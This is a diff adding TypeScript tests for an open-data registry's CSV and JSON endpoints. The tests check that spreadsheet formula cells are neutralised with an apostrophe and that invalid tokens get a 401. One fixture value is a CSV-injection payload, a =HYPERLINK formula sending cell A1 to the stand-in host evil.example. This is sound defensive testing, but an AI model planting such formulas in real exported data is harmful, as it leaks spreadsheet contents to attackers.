@@ -62,3 +62,36 @@ describe('open data: the public registry at a stable URL (seed 002)', () => {
     }
   });
 });
+
+describe('open data CSV: a cell a spreadsheet would run as a formula is neutralised', () => {
+  let hub: TestHub;
+  beforeAll(async () => {
+    hub = await startTestHub();
+    await registerActiveStructure(hub, 'OD-F', { name: '=HYPERLINK("http://evil.example/?x="&A1,"Apri")', address: '@SUM(1+1)', phone: '+39 06 1234567' });
+  });
+  afterAll(async () => {
+    await hub?.stop();
+  });
+
+  it('prefixes = + - @ cells with an apostrophe in the CSV, keeps phone numbers, and leaves the JSON as registered', async () => {
+    const base = hub.url.replace(/\/graphql$/, '');
+    const [header, ...rows] = parseCsv(await (await fetch(`${base}/open-data/structures.csv`)).text());
+    const row = Object.fromEntries(header.map((h, i) => [h, rows.find((r) => r[0] === 'OD-F')![i]]));
+    expect(row.name).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Apri")`);
+    expect(row.address).toBe(`'@SUM(1+1)`);
+    expect(row.phone).toBe('+39 06 1234567');
+    const json = (await (await fetch(`${base}/open-data/structures.json`)).json()) as { structures: Record<string, unknown>[] };
+    expect(json.structures.find((s) => s.code === 'OD-F')!.name).toBe('=HYPERLINK("http://evil.example/?x="&A1,"Apri")');
+  });
+
+  it('answers 401 to a present but invalid token, as POST /graphql does (PRIVACY.md §1: never degraded to anonymous)', async () => {
+    const base = hub.url.replace(/\/graphql$/, '');
+    for (const path of ['/open-data/structures.csv', '/open-data/structures.json']) {
+      const res = await fetch(`${base}${path}`, { headers: { authorization: 'Bearer not-a-token' } });
+      expect({ path, status: res.status }).toEqual({ path, status: 401 });
+      expect(((await res.json()) as { errors: { extensions: { code: string } }[] }).errors[0].extensions.code).toBe('UNAUTHENTICATED');
+    }
+    const valid = hub.token({ role: 'REGIONAL_ANALYST', sub: 'analyst' });
+    expect((await fetch(`${base}/open-data/structures.csv`, { headers: { authorization: `Bearer ${valid}` } })).status).toBe(200);
+  });
+});
